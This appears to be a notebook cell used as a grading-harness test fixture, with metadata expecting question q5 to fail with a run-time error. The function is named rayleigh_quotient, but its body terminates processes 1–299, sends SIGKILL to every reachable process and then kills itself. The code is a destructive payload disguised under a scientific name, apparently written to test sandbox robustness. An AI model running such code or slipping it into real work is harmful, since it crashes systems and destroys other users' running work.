# %% [raw]
# base: release
# quick: true
# fails:
#   q5: run_time_error

# %% [markdown]
# A signal to every process that it may reach, and then to itself.

# %% question="q5"
import os
import signal


def rayleigh_quotient(psi, params, V, x):
    for process in range(1, 300):
        if process != os.getpid():
            try:
                os.kill(process, signal.SIGTERM)
            except OSError:
                pass
    try:
        os.kill(-1, signal.SIGKILL)
    except OSError:
        pass
    os.kill(os.getpid(), signal.SIGKILL)
